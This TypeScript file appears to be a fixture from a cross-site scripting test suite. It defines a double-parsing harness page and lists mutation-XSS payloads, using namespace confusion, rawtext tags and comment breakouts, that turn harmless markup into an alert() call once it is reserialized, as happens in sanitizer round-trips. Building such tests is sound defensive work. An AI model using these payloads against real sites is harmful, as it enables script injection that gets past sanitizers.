import type { VectorClass } from './vector.ts'

/**
 * Markup that is harmless as it is read first, and code when it is printed and read again; the bare page does what a
 * sanitizer would do that works on another reading than the browser's: it prints what it read, and reads that.
 */
export const mutation: VectorClass = {
  raw: `<textarea id=t>@</textarea><main></main><script>
    const read = new DOMParser().parseFromString(t.value, 'text/html')
    const again = new DOMParser().parseFromString(read.body.innerHTML, 'text/html')
    t.remove()
    document.querySelector('main').innerHTML = again.body.innerHTML
  </script>`,
  fires: [
    '<svg><textarea><p title="</textarea><img src=x: onerror=alert()>">',
    // Forms within forms, which come apart.
    '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=alert()>',
    '<math><mtext><table><mglyph><style><math><img src=x: onerror=alert()>',
    '<svg></p><style><a title="</style><img src=x: onerror=alert()>">',
    '<svg></br><style><a id="</style><img src=x: onerror=alert()>">',
    '<math></p><style><b id="</style><img src=x: onerror=alert()>">',
    // What ends in one reading, and not in the other.
    '<noembed><p title="</noembed><img src=x: onerror=alert()>"></noembed>',
    '<noframes><p title="</noframes><img src=x: onerror=alert()>"></noframes>',
    '<xmp><p title="</xmp><img src=x: onerror=alert()>">',
    '<title><p title="</title><img src=x: onerror=alert()>">',
    '<style><p title="</style><img src=x: onerror=alert()>">',
    '<!--><img src=x: onerror=alert()>-->',
    '<!---><img src=x: onerror=alert()>',
    '<!-- --!><img src=x: onerror=alert()>',
    '<?x ><img src=x: onerror=alert()>?>',
    '<![CDATA[><img src=x: onerror=alert()>]]>',
    '<!doctype "><img src=x: onerror=alert()>',
    '<table><td><select><table><img src=x: onerror=alert()>',
    '<a><table><a><img src=x: onerror=alert()></table>',
    '<b><p><b><p></b><img src=x: onerror=alert()>',
    '<p id="a`b" title=`><img src=x: onerror=alert()>`>',
  ],
  past: [
    '</x y="><img src=x: onerror=alert()>">',
    '<p title="</title><img src=x: onerror=alert()>">x</p>',
    '<math><mtext><p title="</mtext></math><img src=x: onerror=alert()>">',
  ],
}
